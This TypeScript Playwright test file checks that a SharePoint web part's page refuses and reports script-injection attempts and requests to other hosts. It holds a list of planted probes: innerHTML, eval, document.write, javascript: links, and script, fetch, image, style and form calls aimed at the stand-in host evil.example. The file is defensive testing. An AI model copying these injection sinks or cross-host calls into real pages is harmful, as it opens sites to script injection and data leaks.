import { type BrowserContext, type Page } from '@playwright/test';
import { expect, feedOf, signIns, test } from './test';
import { type TestTenant } from './TestTenant';
import { watchPages } from './watchPages';

const home = '/sites/hallway/SitePages/Home.aspx';

/** A context that only this test watches, with the feed open in it. */
async function watchedFeed(
  context: BrowserContext,
  tenant: TestTenant
): Promise<{ page: Page; misdeeds: readonly string[] }> {
  const misdeeds = await watchPages(context, tenant.url);
  const page = await tenant.signIn(context, signIns.member);
  await feedOf(page);
  expect(misdeeds).toEqual([]);
  return { page, misdeeds };
}

/** Each is tried in a page of Hallway, and has to be refused and told. */
const plants: Readonly<Record<string, () => unknown>> = {
  // eslint-disable-next-line no-restricted-syntax -- planted, to see it refused
  'markup from text': () => (document.body.innerHTML = '<b>a</b>'),
  // eslint-disable-next-line no-restricted-syntax -- planted, to see it refused
  'markup put beside': () => document.body.insertAdjacentHTML('beforeend', '<b>a</b>'),
  // eslint-disable-next-line no-restricted-syntax -- planted, to see it refused
  'a written document': () => document.write('<b>a</b>'),
  'a handler as an attribute': () => document.body.setAttribute('onclick', 'window.executed()'),
  // eslint-disable-next-line no-restricted-syntax -- planted, to see it refused
  eval: () => window.eval('window.executed()'),
  // eslint-disable-next-line no-new-func -- planted, to see it refused
  'a function from text': () => Function('window.executed()')(),
  'a script with text in it': () => {
    document.body.append(Object.assign(document.createElement('script'), { text: 'window.executed()' }));
  },
  'a script of the site’s own files': () => {
    document.body.append(
      Object.assign(document.createElement('script'), { src: '/sites/hallway/SiteAssets/x.js' })
    );
  },
  'a script of another host': () => {
    document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/' }));
  },
  'a frame with a document in it': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<b>a</b>' }));
  },
  'a link that runs': () => {
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.executed()' });
    document.body.append(link);
    link.click();
  },
  'a policy of somebody else’s': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): void };
    };
    trustedTypes.createPolicy('anybody', {});
  },
  'a request to another host': () => void fetch('https://evil.example/').catch(() => undefined),
  'a picture of another host': () => (new Image().src = 'https://evil.example/x.png'),
  'a style of another host': () => {
    const { style } = document.body;
    style.backgroundImage = 'url(https://evil.example/x.png)';
  },
  'a form sent to another host': () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
    document.body.append(form);
    form.submit();
  }
};

/** In a task of the page's own: what Playwright evaluates may do more than a page may. */
async function actLater(page: Page, plant: () => unknown): Promise<void> {
  const run = await page.evaluateHandle(`(${plant.toString()})`);
  await page.evaluate(planted => void setTimeout(planted as () => void), run);
}

test('whatever turns text into script, or asks another host, is refused and told', async ({
  browser,
  tenant
}) => {
  const context = await browser.newContext();
  const { page, misdeeds } = await watchedFeed(context, tenant);
  let executed = 0;
  await context.exposeFunction('executed', () => (executed += 1));
  await page.reload();
  await feedOf(page);
  for (const [name, plant] of Object.entries(plants)) {
    const before = misdeeds.length;
    await actLater(page, plant);
    await expect.poll(() => misdeeds.length, name).toBeGreaterThan(before);
  }
  expect(executed).toBe(0);
  await context.close();
});

test('SharePoint draws its loading icon where a web part is slow to come, and then the feed', async ({
  page,
  tenant
}) => {
  await page.route(/hallway-web-part/, async route => {
    await expect(page.locator('svg [id$="_Shimmer"]')).toBeAttached();
    await route.continue();
  });
  await tenant.open(page, signIns.member);
  await feedOf(page);
  await expect(page.locator('svg [id$="_Shimmer"]')).toHaveCount(0);
});

test('a test in which a page breaks its policy fails', async ({ page, tenant }) => {
  test.fail();
  await tenant.open(page, signIns.member);
  await feedOf(page);
  await page.evaluate(plants['markup from text'] ?? String).catch(() => undefined);
});

test('a test in which a page asks another host fails', async ({ page, tenant }) => {
  test.fail();
  await tenant.open(page, signIns.member);
  await feedOf(page);
  await page.evaluate(plants['a picture of another host'] ?? String);
});

interface Asked {
  readonly kind: string;
  readonly text: string;
  readonly stack: string;
}

/** Runs before the page's scripts: keeps what the browser asks the page's policy, and from whose code. */
function listenToPolicy(): void {
  const { trustedTypes } = window as unknown as {
    trustedTypes: { createPolicy(name: string, rules: Record<string, (text: string) => unknown>): unknown };
  };
  const make = trustedTypes.createPolicy.bind(trustedTypes);
  const asked: Asked[] = [];
  trustedTypes.createPolicy = (name, rules) => {
    const heard = Object.entries(rules).map(([kind, rule]) => [
      kind,
      (text: string): unknown => {
        asked.push({ kind, text: text.slice(0, 200), stack: String(new Error().stack) });
        return rule(text);
      }
    ]);
    return make(name, Object.fromEntries(heard));
  };
  Object.assign(window, { asked });
}

/** The folder of the script that asked: the innermost of those that came from the server. */
function callerOf(stack: string): string | undefined {
  return /https?:\/\/[^/]+\/(\w+)\//.exec(stack)?.[1];
}

/** SharePoint's own, drawn where a web part takes long to come. */
function isPlaceholder(text: string): boolean {
  return text.startsWith('<svg ') && text.includes('<title>Loading ');
}

test('Hallway’s own code asks the policy for the addresses of its own parts, and for nothing else', async ({
  page,
  tenant
}) => {
  await page.addInitScript(listenToPolicy);
  await tenant.open(page, signIns.owner, `${home}?Mode=Edit`);
  await feedOf(page);
  await page
    .getByRole('button', { name: /More actions/ })
    .first()
    .click();
  await expect(page.getByRole('menu')).toBeVisible();
  const asked = await page.evaluate(() => (window as unknown as { asked: readonly Asked[] }).asked);
  const others = asked.filter(({ kind, text }) => kind !== 'createScriptURL' && !isPlaceholder(text));
  expect(others.map(({ text }) => text)).toEqual([expect.stringContaining('@license RequireJS')]);
  const own = asked.filter(({ stack }) => callerOf(stack) === 'ClientSideAssets');
  expect(own.length).toBeGreaterThan(0);
  for (const { text } of own) expect(text).toMatch(/\/ClientSideAssets\/[^?#]+\.js$/);
});
